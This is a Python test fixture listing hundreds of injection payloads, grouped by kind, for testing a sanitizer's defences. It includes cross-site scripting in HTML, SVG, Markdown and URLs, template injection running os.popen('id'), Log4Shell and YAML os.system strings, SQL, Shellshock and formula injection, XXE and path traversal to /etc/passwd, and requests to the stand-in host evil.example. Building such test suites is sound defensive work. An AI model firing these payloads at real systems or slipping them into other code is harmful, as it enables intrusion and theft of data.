"""What somebody could write to get a script run, a request made, or a page broken.

Each is one text, by what it tries. `ps_trip()` is the alarm that the tests listen for, and
`evil.example` the host that nobody may ask. They are samples of each kind, ours and the well-known
ones: HTML that parsers repair, attributes, addresses, style sheets, drawings and formulas,
templates, Markdown, YAML, TeX, and characters that are not what they look like.
"""

from __future__ import annotations

_HTML = """
<script>ps_trip()</script>
<SCRIPT >ps_trip()</SCRIPT >
<script/x>ps_trip()</script>
<script src=//evil.example/a.js></script>
<script src="https://evil.example/a.js" defer></script>
<script type=module>ps_trip()</script>
<script type=importmap>{"imports":{"a":"//evil.example/"}}</script>
<scr<script>ipt>ps_trip()</scr</script>ipt>
<<script>ps_trip()//<</script>
<script>ps_trip()
</script><script>ps_trip()</script>
</title><script>ps_trip()</script>
</textarea><script>ps_trip()</script>
</style><script>ps_trip()</script>
</head><script>ps_trip()</script>
</article></main><script>ps_trip()</script>
</a></h1></p></div><script>ps_trip()</script>
--><script>ps_trip()</script><!--
<!--><script>ps_trip()</script>
<!---><script>ps_trip()</script>-->
<!-- --!><script>ps_trip()</script> -->
<![CDATA[<script>ps_trip()</script>]]>
]]><script>ps_trip()</script>
<?xml version="1.0"?><script>ps_trip()</script>
<?php system('id') ?><script>ps_trip()</script>
<!DOCTYPE html SYSTEM "//evil.example/a.dtd">
<!ENTITY x SYSTEM "file:///etc/passwd">&x;
<noscript><p title="</noscript><img src=x onerror=ps_trip()>">
<noembed><img src=x onerror=ps_trip()></noembed>
<xmp><p title="</xmp><script>ps_trip()</script>">
<plaintext><script>ps_trip()</script>
<template><script>ps_trip()</script></template>
<template shadowrootmode=open><script>ps_trip()</script></template>
<listing>&lt;img src=x onerror=ps_trip()&gt;</listing>
<iframe src=javascript:ps_trip()></iframe>
<iframe srcdoc="<script>parent.ps_trip()</script>"></iframe>
<iframe src=//evil.example></iframe>
<frameset onload=ps_trip()><frame src=//evil.example></frameset>
<object data=//evil.example/a.swf></object>
<object data="data:text/html,<script>ps_trip()</script>"></object>
<embed src=javascript:ps_trip()>
<applet code=a.class codebase=//evil.example></applet>
<base href=//evil.example/>
<base target=_blank><a href=x>x</a>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=refresh content="0;url=javascript:ps_trip()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-ps_trip()+ADw-/script+AD4-
<link rel=stylesheet href=//evil.example/a.css>
<link rel=import href=//evil.example>
<link rel=prefetch href=//evil.example/a>
<link rel=dns-prefetch href=//evil.example>
<link rel=icon href=//evil.example/a.ico>
<form action=//evil.example><input name=password><button>Send</button></form>
<form id=x></form><button form=x formaction=javascript:ps_trip()>x</button>
<isindex action=javascript:ps_trip() type=image>
<input autofocus onfocus=ps_trip()>
<input type=image src=//evil.example/a.png>
<select autofocus onfocus=ps_trip()></select>
<textarea autofocus onfocus=ps_trip()></textarea>
<keygen autofocus onfocus=ps_trip()>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=ps_trip()>x</div>
<dialog open onclose=ps_trip()><form method=dialog>
<portal src=//evil.example></portal>
<fencedframe src=//evil.example></fencedframe>
<x-own onclick=ps_trip()>x</x-own>
<marquee onstart=ps_trip()>x</marquee>
<details open ontoggle=ps_trip()><summary>x</summary></details>
<div id=__config></div><div name=__search id=__palette_0>x</div>
<form name=search><input name=q></form>
<a id=document name=body>x</a><img name=cookie>
"""

_ATTRIBUTES = """
<img src=x onerror=ps_trip()>
<img src=x onerror=ps_trip()//
<IMG SRC=x ONERROR=ps_trip()>
<img/src=x/onerror=ps_trip()>
<img src=x onerror="ps_trip()"
<img src="x` `<script>ps_trip()</script>"` `>
<img src=`x`onerror=ps_trip()>
<img src=x:x onerror\x0c=ps_trip()>
<img \"\"\"><script>ps_trip()</script>\">
<img src=//evil.example/a.png>
<img src=https://evil.example/a.png srcset="//evil.example/b.png 2x">
<img src=data:image/svg+xml,<svg/onload=ps_trip()>>
<img dynsrc=//evil.example lowsrc=javascript:ps_trip()>
<picture><source srcset=//evil.example/a.webp><img></picture>
<video src=//evil.example poster=//evil.example/p.png onerror=ps_trip()></video>
<audio src=x onerror=ps_trip()></audio>
<video><source onerror=ps_trip()></video>
<body onload=ps_trip()>
<body onpageshow=ps_trip() background=//evil.example/a.png>
<html manifest=//evil.example/a>
<p onclick=ps_trip() onmouseover=ps_trip()>x</p>
<p onanimationstart=ps_trip() style=animation:md-fade>x</p>
<p ontransitionrun=ps_trip() style="transition:all 1s">x</p>
<p onpointerrawupdate=ps_trip()>x</p>
<p oncontentvisibilityautostatechange=ps_trip() style=content-visibility:auto>
<a href=x onfocusin=ps_trip() tabindex=0 autofocus>x</a>
<table background=//evil.example/a.png><tr><td background=//evil.example/b.png>x</table>
" onmouseover="ps_trip()
' onmouseover='ps_trip()
" autofocus onfocus=ps_trip() x="
"x><script>ps_trip()</script>
'><img src=x onerror=ps_trip()>
"/><svg onload=ps_trip()>
`onmouseover=ps_trip()
\\" onmouseover=ps_trip() \\"
x" style="background:url(//evil.example/a.png)
x' id='__config' class='md-search'
"};ps_trip();//
';ps_trip();//
</script ><script >ps_trip()</script>
\\u003cscript\\u003eps_trip()\\u003c/script\\u003e
"},"@context":"javascript:ps_trip()"
"""

_DRAWINGS = """
<svg onload=ps_trip()>
<svg/onload=ps_trip()//
<svg><script>ps_trip()</script></svg>
<svg><script href=//evil.example/a.js></script></svg>
<svg><script xlink:href="data:,ps_trip()"></script></svg>
<svg><a xlink:href=javascript:ps_trip()><text>x</text></a></svg>
<svg><animate onbegin=ps_trip() attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:ps_trip() /><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=ps_trip() />
<svg><use href="data:image/svg+xml,<svg id=x><script>ps_trip()</script></svg>#x"/></svg>
<svg><image href=//evil.example/a.png /></svg>
<svg><feImage href=//evil.example/a.svg /></svg>
<svg><foreignObject><iframe src=javascript:ps_trip()></iframe></foreignObject></svg>
<svg><style>@import '//evil.example/a.css';</style></svg>
<svg><style><img src=x onerror=ps_trip()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=ps_trip()>">
<svg><title><style><img src=x onerror=ps_trip()></style></title></svg>
<svg><desc><table><tr><td><style></svg><img src=x onerror=ps_trip()>
<svg><p><style><g title="</style><img src onerror=ps_trip()>">
<svg><![CDATA[><img src=x onerror=ps_trip()>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=ps_trip()>
<math><mtext></mtext><mglyph><style></math><img src onerror=ps_trip()>
<math><annotation-xml encoding="text/html"><script>ps_trip()</script></annotation-xml></math>
<math><maction actiontype=statusline xlink:href=javascript:ps_trip()>x</maction></math>
<math href=javascript:ps_trip()><mi>x</mi></math>
<math><mi//xlink:href="data:x,<script>ps_trip()</script>">
<math><a href=javascript:ps_trip()>x</a></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ps_trip()>
<table><math><select><mtext><mglyph><style></math><img src=x onerror=ps_trip()>
<math><mi><b><math><style><img src=x onerror=ps_trip()></style></math></b></mi></math>
"""

_STYLES = """
<style>@import '//evil.example/a.css';</style>
<style>body{background:url(//evil.example/a.png)}</style>
<style>*{display:none!important}</style>
<p style="background:url(//evil.example/a.png)">x</p>
<p style=position:fixed;inset:0;z-index:9999;background:red>x</p>
<p style="width:expression(ps_trip())">x</p>
<p style="behavior:url(//evil.example/a.htc)">x</p>
<p style="-moz-binding:url(//evil.example/a.xml#x)">x</p>
<p style="b\\61 ckground:url(//evil.example)">x</p>
<font face="x" color=expression(ps_trip())>x</font>
<div class="md-search md-overlay md-dialog" style=all:unset>x</div>
}*{background:url(//evil.example/a.png)
"""

_ADDRESSES = """
javascript:ps_trip()
JaVaScRiPt:ps_trip()
 javascript:ps_trip()
java\tscript:ps_trip()
javascript://evil.example/%0aps_trip()
javascript&colon;ps_trip()
&#106;avascript:ps_trip()
&#x6A&#x61&#x76&#x61script:ps_trip()
vbscript:msgbox(1)
livescript:ps_trip()
data:text/html,<script>ps_trip()</script>
data:text/html;base64,PHNjcmlwdD5wc190cmlwKCk8L3NjcmlwdD4=
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ps_trip()'/>
blob:https://evil.example/1
file:///etc/passwd
filesystem:https://evil.example/temporary/a
view-source:javascript:ps_trip()
jar:https://evil.example!/a.html
feed:javascript:ps_trip()
ms-settings:network
//evil.example/a
\\\\evil.example\\a
/\\evil.example
https:evil.example
https:///evil.example
https://evil.example@127.0.0.1/
https://user:password@evil.example/
https://127.0.0.1:80/../../.git/config
http://[::1]/
https://evil.example/?a=<script>ps_trip()</script>
https://evil.example/"onmouseover="ps_trip()
mailto:a@evil.example?subject=x&bcc=b@evil.example%0d%0aTo:c
../../../../etc/passwd
..\\..\\.git\\config
%2e%2e/%2e%2e/.git/config
#__config
?q=<script>ps_trip()</script>
"""

_MARKDOWN = """
[x](javascript:ps_trip())
[x](<javascript:ps_trip()>)
[x](JaVa&Tab;ScRiPt:ps_trip())
[x](javascript&#58;ps_trip())
[x](\\javascript:ps_trip())
[x](data:text/html,<script>ps_trip()</script>)
[x](//evil.example)
[x](https://evil.example "\\" onmouseover=\\"ps_trip()")
[x](https://evil.example 'a"onmouseover="ps_trip()')
[x](https://evil.example/"onmouseover="ps_trip())
![x](javascript:ps_trip())
![x](https://evil.example/a.png)
![x](//evil.example/a.png "x")
!["onerror="ps_trip()](x.png)
![x](data:image/svg+xml,<svg onload=ps_trip()>)
![x](../../../../etc/passwd)
[![x](//evil.example/a.png)](javascript:ps_trip())
<javascript:ps_trip()>
<https://evil.example/"onmouseover="ps_trip()>
<a@evil.example?subject="onmouseover=ps_trip()>
www.evil.example/<script>ps_trip()</script>
https://evil.example/<script>ps_trip()</script>
[x][1] [1]: javascript:ps_trip()
[^1] [^1]: <script>ps_trip()</script>
[^"onmouseover="ps_trip()]
[[<script>ps_trip()</script>]]
[[../../.git/config]]
x {: onclick=ps_trip() style=color:red id=__config }
x {#__config .md-search onclick="ps_trip()"}
![x](x.png){ onerror=ps_trip() }
# x {#__search onclick=ps_trip()}
`<script>ps_trip()</script>`
`` `<img src=x onerror=ps_trip()>` ``
`x`{onclick=ps_trip()}
``` {.python onclick="ps_trip()"}
~~~ "><script>ps_trip()</script>
| x | <script>ps_trip()</script> |
*[x]: <script>ps_trip()</script>
!!! note "<script>ps_trip()</script>"
??? note onclick=ps_trip()
=== "<script>ps_trip()</script>"
/// html | script
--8<-- "../../.git/config"
;--8<-- "https://evil.example/a.md"
:smile: :"><script>ps_trip()</script>:
++ctrl+<script>ps_trip()</script>++
{++<script>ps_trip()</script>++}{--x--}{>>x<<}
==<script>ps_trip()</script>== ^^x^^ ~~x~~
$<script>ps_trip()</script>$
$$\\href{javascript:ps_trip()}{x}$$
[TOC] <script>ps_trip()</script>
<!-- md:<script>ps_trip()</script> -->
<div markdown="1" onclick=ps_trip()>*x*</div>
- [ ] <input onfocus=ps_trip() autofocus>
1. <script>ps_trip()</script>
> <script>ps_trip()</script>
\\<script>ps_trip()</script>
"""

_TEMPLATES = """
{{ config }}
{{ 7*7 }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config.__init__.__globals__['os'].popen('id').read() }}
{% include '../../.git/config' %}
{% set x = ps_trip() %}{{ x }}
{%- for x in ().__class__.__base__.__subclasses__() -%}{{ x }}{%- endfor -%}
{# <script>ps_trip()</script> #}
{% raw %}{{ config }}{% endraw %}<script>ps_trip()</script>
{{ "<script>ps_trip()</script>" | safe }}
${7*7} #{7*7} <%= 7*7 %> @(7*7)
${jndi:ldap://evil.example/a}
<%= system('id') %>
{{constructor.constructor('ps_trip()')()}}
[[${ps_trip()}]]
papershelf-slot-content-slot
<!-- content -->
autocomplete="off"<!-- content --><script>ps_trip()</script>
</script>{"base":"//evil.example"}
__proto__ constructor prototype toString
"""

_DATA = """
!!python/object/apply:os.system ["id"]
!!python/name:os.system
!ENV [HOME, x]
&a [*a, *a]
<<: {template: evil.html}
template: evil.html
hide: [navigation]
--- # x
... # x
"x": {y: z}
{"__proto__": {"x": 1}}
=cmd|' /C calc'!A0
@import url(//evil.example/a.css);
'; DROP TABLE papers; --
() { :;}; ping evil.example
$(ps_trip) `ps_trip` | ps_trip && ps_trip
%s%s%n %x {0} {x.__class__}
::set-output name=x::y
::error file=a,line=1::x
%0aSet-Cookie: x=1
@article{x, title={<script>ps_trip()</script>}}
} }, x = {<script>ps_trip()</script>
"""

_TEX = """
\\href{javascript:ps_trip()}{x}
$\\href{javascript:ps_trip()}{x}$
$\\url{javascript:ps_trip()}$
$\\htmlData{onclick=ps_trip()}{x}$
$\\htmlStyle{background:url(//evil.example)}{x}$
$\\includegraphics{//evil.example/a.png}$
$\\class{md-search}{x}\\cssId{__config}{x}$
$\\unicode{x<script>ps_trip()</script>}$
$\\text{<script>ps_trip()</script>}$
$x<img src=x onerror=ps_trip()>y$
$\\def\\x{\\x\\x}\\x$
\\newcommand{\\x}{\\x\\x}\\x
\\input{/etc/passwd}
\\write18{id}
\\verb|<script>ps_trip()</script>|
\\catcode`\\<=13 <script>ps_trip()</script>
"""

_CHARACTERS = (
    "\u202egnp.exe<script>ps_trip()</script>",
    "\u2066<script>ps_trip()</script>\u2069",
    "x\u200b\u200c\u200d\u2060\ufeffy",
    "x\U000e0041\U000e0042y",
    "x\x00<script>ps_trip()</script>",
    "<scr\x00ipt>ps_trip()</scr\x00ipt>",
    "x\x1b[31m\x1b]0;y\x07z",
    "x\x02wzxhzdk:0\x03y",
    "x\x08\x08\x08y\x7f\x85",
    "x\ud800y",
    "x\r\nSet-Cookie: y=z",
    "x\u2028ps_trip()\u2029y",
    "\uff1cscript\uff1eps_trip()\uff1c/script\uff1e",
    "\u02bascript\u02ba\u2039script\u203aps_trip()",
    "\u00bcscript\u00beps_trip()\u00bc/script\u00be",
    "&lt;script&gt;ps_trip()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;ps_trip()",
    "&#60;script&#62;ps_trip()&#60;/script&#62;",
    "&#x3c;img src=x onerror=ps_trip()&#x3e;",
    "&#0;&#1;&#xD800;&#x110000;&#8238;x",
    "&notit; &copy &lt &#39 &quot;onmouseover=ps_trip()&quot;",
    "%3Cscript%3Eps_trip()%3C/script%3E",
    "\\x3cscript\\x3eps_trip()\\x3c/script\\x3e",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo",
    "\u0430pple \u0440aypal \u041c\u0410\u0421",
    "\u1f600\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "\ufdfa" * 20,
    "\u0600\u06dd\u070f" + "\u0627" * 30,
)


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.split("\n") if line)


KINDS: dict[str, tuple[str, ...]] = {
    "html": _lines(_HTML),
    "attributes": _lines(_ATTRIBUTES),
    "drawings": _lines(_DRAWINGS),
    "styles": _lines(_STYLES),
    "addresses": _lines(_ADDRESSES),
    "markdown": _lines(_MARKDOWN),
    "templates": _lines(_TEMPLATES),
    "data": _lines(_DATA),
    "tex": _lines(_TEX),
    "characters": _CHARACTERS,
}

PAYLOADS: tuple[str, ...] = tuple(one for kind in KINDS.values() for one in kind)
